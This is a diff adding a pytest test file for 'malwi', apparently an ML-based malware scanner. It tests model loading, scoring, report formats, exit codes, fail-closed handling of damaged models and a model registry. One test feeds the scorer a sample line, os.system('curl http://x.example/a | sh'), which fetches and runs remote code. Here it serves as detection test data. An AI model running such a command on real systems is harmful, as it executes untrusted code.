@@ -1,0 +1,213 @@
+"""Verdicts with a model: loading, fail-closed checks, scoring, reports, exit codes, registry.
+
+The model is the tiny bag-of-words bundle from `tiny_model.py` (no torch needed); the bundled
+default model is tested separately when present.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import subprocess
+import sys
+from pathlib import Path
+
+import numpy as np
+import pytest
+import yaml
+
+import malwi
+from malwi.model import ModelBundle, load
+from malwi.model.scoring import length_batches
+from malwi.report import MalwiReport
+from malwi.report import render
+
+from .conftest import EXAMPLES
+from .tiny_model import build_tiny_bundle, write_manifest
+
+
+@pytest.fixture(scope="module")
+def tiny(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    return build_tiny_bundle(tmp_path_factory.mktemp("model") / "tiny")
+
+
+def scan(*args: str, model: Path, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[bytes]:
+    environment = {**os.environ, **(env or {})}
+    return subprocess.run(
+        [sys.executable, "-m", "malwi", "scan", *args, "--model", str(model)], capture_output=True, timeout=120, env=environment
+    )
+
+
+def test_bundle_loads_and_scores(tiny: Path) -> None:
+    scorer = load(tiny, device="cpu")
+    assert scorer.device == "cpu"
+    assert load(tiny, device="cpu") is scorer, "the model is loaded once per process"
+    objects = malwi.compile_source(
+        "import os\nos.system('curl http://x.example/a | sh')\n\ndef add(a, b):\n    return a + b\n", "python"
+    )
+    scores = scorer.score(objects)
+    assert scores.shape == (2,)
+    assert scores[0] > 0.7 > 0.1 > scores[1]  # sigmoid(3 + 1 - 3) and sigmoid(0 - 3)
+    # Identical objects are scored once.
+    statistics = malwi.model.ScoringStatistics()
+    scorer.score(objects + objects, statistics)
+    assert statistics.objects == 4 and statistics.unique_objects == 2
+
+
+def test_windows_are_batched_by_length() -> None:
+    lengths = np.array([5, 200, 7, 190, 6, 210], dtype=np.int32)
+    batches = length_batches(lengths, max_tokens=420, max_rows=8)
+    assert sorted(np.concatenate(batches).tolist()) == list(range(6))
+    for batch in batches:
+        longest = int(lengths[batch].max())
+        assert len(batch) * longest <= 420 or len(batch) == 1
+    assert [sorted(b.tolist()) for b in batches][0] == [0, 2, 4], "short windows travel together"
+
+
+def test_malicious_examples_say_malicious_with_activities(tiny: Path) -> None:
+    result = scan(str(EXAMPLES / "malicious-python"), model=tiny)
+    assert result.returncode == 1, result.stderr
+    text = result.stdout.decode()
+    assert "PostInstallCommand.run" in text and "activities: INSTALL_HOOK, PROCESS_MANAGEMENT" in text
+    assert text.splitlines()[-1].startswith("=> malicious: maliciousness ")
+
+
+def test_benign_examples_say_good(tiny: Path) -> None:
+    result = scan(str(EXAMPLES / "benign"), model=tiny)
+    assert result.returncode == 0, result.stderr
+    assert result.stdout.decode().splitlines()[-1].startswith("=> good")
+
+
+def test_threshold_changes_the_verdict(tiny: Path) -> None:
+    strict = scan(str(EXAMPLES / "malicious-python"), "--threshold", "1.0", model=tiny)
+    assert strict.returncode == 0
+    assert b"=> suspicious" in strict.stdout
+
+
+def test_report_formats(tiny: Path) -> None:
+    as_json = json.loads(scan(str(EXAMPLES), "-f", "json", model=tiny).stdout)
+    assert as_json["malicious"] is True and as_json["verdict"] == "malicious"
+    assert 0 <= as_json["maliciousness"] <= 1 and as_json["threshold"] == 0.7
+    stats = as_json["statistics"]
+    for key in ("files", "scanned", "skipped_by_extension", "objects", "objects_scored", "seconds", "device"):
+        assert key in stats
+    assert stats["device"] == "cpu" and stats["skipped_by_extension"] == 1
+    flagged = {Path(f["path"]).name: f for f in as_json["files"]}
+    assert "slugify.js" not in flagged and "setup.py" in flagged
+    obj = flagged["loader.py"]["objects"][0]
+    assert {"name", "lines", "score", "activities", "source"} <= set(obj)
+    as_yaml = yaml.safe_load(scan(str(EXAMPLES), "-f", "yaml", model=tiny).stdout)
+    assert as_yaml == as_json | {"statistics": as_yaml["statistics"]}
+    markdown = scan(str(EXAMPLES), "-f", "markdown", model=tiny).stdout.decode()
+    assert markdown.startswith("# malwi report") and "**Verdict: malicious**" in markdown and "| `" in markdown
+    quiet = scan(str(EXAMPLES), "--quiet", model=tiny).stdout.decode()
+    assert quiet.count("\n") == 1 and quiet.startswith("=> malicious")
+
+
+def test_api_like_the_reference(tiny: Path) -> None:
+    report = MalwiReport.create(input_path=str(EXAMPLES / "malicious-javascript"), silent=True, malicious_threshold=0.7, model=tiny)
+    assert report.malicious and report.verdict == "malicious"
+    assert report.statistics["scanned"] == 1
+    assert any("PROCESS_MANAGEMENT" in o.activities for f in report.flagged_files for o in f.objects)
+    benign = MalwiReport.create(input_path=EXAMPLES / "benign", silent=True, model=tiny)
+    assert not benign.malicious and benign.verdict == "good"
+    assert render.text(benign).splitlines()[-1].startswith("=> good")
+    assert malwi.MalwiReport is MalwiReport
+
+
+def test_dump_still_works_without_a_model(tmp_path: Path) -> None:
+    result = subprocess.run(
+        [sys.executable, "-m", "malwi", "scan", str(EXAMPLES), "-f", "json", "--no-model", "--model", str(tmp_path / "absent")],
+        capture_output=True,
+        timeout=60,
+    )
+    assert result.returncode == 0
+    assert "files" in json.loads(result.stdout) and "verdict" not in json.loads(result.stdout)
+
+
+def broken_copy(tiny: Path, tmp_path: Path) -> Path:
+    copy = tmp_path / "model"
+    shutil.copytree(tiny, copy)
+    return copy
+
+
+@pytest.mark.parametrize("damage", ["missing", "digest", "featurizer", "vocabulary", "unloadable", "format"])
+def test_bad_models_fail_closed(tiny: Path, tmp_path: Path, damage: str) -> None:
+    model = broken_copy(tiny, tmp_path)
+    manifest = json.loads((model / "manifest.json").read_text())
+    if damage == "missing":
+        (model / "manifest.json").unlink()
+        expected = "manifest.json is missing"
+    elif damage == "digest":
+        (model / "model.onnx").write_bytes(b"\x00" + (model / "model.onnx").read_bytes()[1:])
+        expected = "does not match its manifest digest"
+    elif damage == "featurizer":
+        manifest["featurizer"]["config"]["methods"] = "inline"
+        (model / "manifest.json").write_text(json.dumps(manifest))
+        expected = "featurizer id"
+    elif damage == "vocabulary":
+        manifest["vocabulary"]["hash"] = "0" * 64
+        (model / "manifest.json").write_text(json.dumps(manifest))
+        expected = "vocabulary hash"
+    elif damage == "unloadable":
+        (model / "model.onnx").write_bytes(b"not an onnx model")
+        write_manifest(model, manifest)
+        expected = "cannot be loaded by onnxruntime"
+    else:
+        manifest["format"] = 99
+        (model / "manifest.json").write_text(json.dumps(manifest))
+        expected = "format"
+    result = scan(str(EXAMPLES / "malicious-python"), model=model)
+    assert result.returncode == 2
+    stderr = result.stderr.decode()
+    assert stderr.startswith("malwi: error: ") and expected in stderr and stderr.count("\n") == 1, stderr
+    assert result.stdout == b"", "no verdict is printed"
+    with pytest.raises(malwi.ModelError):
+        ModelBundle.load(model).check_compatibility() if damage != "unloadable" else load(model, device="cpu")
+
+
+def test_cuda_without_its_provider_is_an_error(tiny: Path) -> None:
+    import onnxruntime
+
+    if "CUDAExecutionProvider" in onnxruntime.get_available_providers():
+        pytest.skip("this machine has the CUDA provider; the error path cannot happen here")
+    result = scan(str(EXAMPLES), "--device", "cuda", model=tiny)
+    assert result.returncode == 2 and b"onnxruntime-gpu" in result.stderr
+
+
+def test_featurizer_flags_conflict_with_the_model(tiny: Path) -> None:
+    result = scan(str(EXAMPLES), "--methods", "inline", model=tiny)
+    assert result.returncode == 2 and b"featurizer options apply without the model" in result.stderr
+
+
+def test_registry_list_show_activate(tiny: Path, tmp_path: Path) -> None:
+    registry_path = tmp_path / "registry.sqlite3"
+    from malwi.registry import Registry
+
+    with Registry(registry_path) as registry:
+        registry.register_model(
+            model_id="tiny-1", model_name="malwi", model_type="classifier", version="0.0.1", file_path=str(tiny),
+            featurizer_id=malwi.FeaturizerConfig().featurizer_id, vocabulary_hash="x" * 64, threshold=0.7,
+            recall=0.9, false_positive_rate=0.01, training_config={"epochs": 1},
+        )
+        registry.record_training(model_id="tiny-1", started_at="2026-01-01T00:00:00Z", status="completed", epochs=1, config={"a": 1})
+        registry.record_performance(model_id="tiny-1", dataset_name="test", level="package", recall=0.9, false_positive_rate=0.01)
+        registry.add_version("malwi", "0.0.1", "tiny-1")
+        tables = {row[0] for row in registry.connection.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
+    assert {"model_registry", "model_performance", "training_history", "model_versions"} <= tables
+    env = {"MALWI_REGISTRY": str(registry_path)}
+    run = lambda *a: subprocess.run([sys.executable, "-m", "malwi", "models", *a], capture_output=True, timeout=60, env={**os.environ, **env})
+    listed = run("list")
+    assert listed.returncode == 0 and b"tiny-1" in listed.stdout and b"testing" in listed.stdout
+    shown = json.loads(run("show", "tiny-1").stdout)
+    assert shown["training_config"] == {"epochs": 1} and shown["performance"][0]["level"] == "package"
+    assert run("show", "nope").returncode == 2
+    assert run("activate", "tiny-1").returncode == 0
+    assert b"active" in run("list").stdout
+    # Scans without --model now use the active model.
+    result = subprocess.run(
+        [sys.executable, "-m", "malwi", "scan", str(EXAMPLES / "benign"), "-f", "json"],
+        capture_output=True, timeout=60, env={**os.environ, **env},
+    )
+    assert json.loads(result.stdout)["model"]["name"] == "tiny-test-model"
